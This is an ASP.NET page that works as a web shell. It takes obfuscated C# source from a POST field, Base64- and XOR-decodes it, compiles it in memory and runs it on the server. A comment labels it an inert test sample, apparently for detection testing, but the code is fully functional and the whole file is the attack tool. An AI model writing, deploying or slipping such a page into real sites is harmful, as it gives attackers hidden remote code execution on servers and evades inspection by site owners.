<%@ Page Language="C#" %>
<%@ Import Namespace="System.Text" %>
<%@ Import Namespace="System.Reflection" %>
<%@ Import Namespace="System.CodeDom.Compiler" %>
<%@ Import Namespace="Microsoft.CSharp" %>
<script runat="server">
// inert test sample: posted source, Base64 then XOR-decoded byte by byte in a helper, is compiled
// in memory and run
byte[] Unmask(byte[] data, string k)
{
    byte[] plain = new byte[data.Length];
    for (int n = 0; n < data.Length; n++)
    {
        plain[n] = (byte)(data[n] ^ k[n % k.Length]);
    }
    return plain;
}

void Page_Load(object sender, EventArgs e)
{
    string posted = Request.Form["p"];
    if (posted == null) return;
    string source = Encoding.UTF8.GetString(Unmask(Convert.FromBase64String(posted), "k3y"));
    CompilerParameters opts = new CompilerParameters();
    opts.GenerateInMemory = true;
    CompilerResults built = new CSharpCodeProvider().CompileAssemblyFromSource(opts, source);
    object job = built.CompiledAssembly.CreateInstance("Job");
    Response.Write(job.GetType().GetMethod("Run").Invoke(job, null));
}
</script>
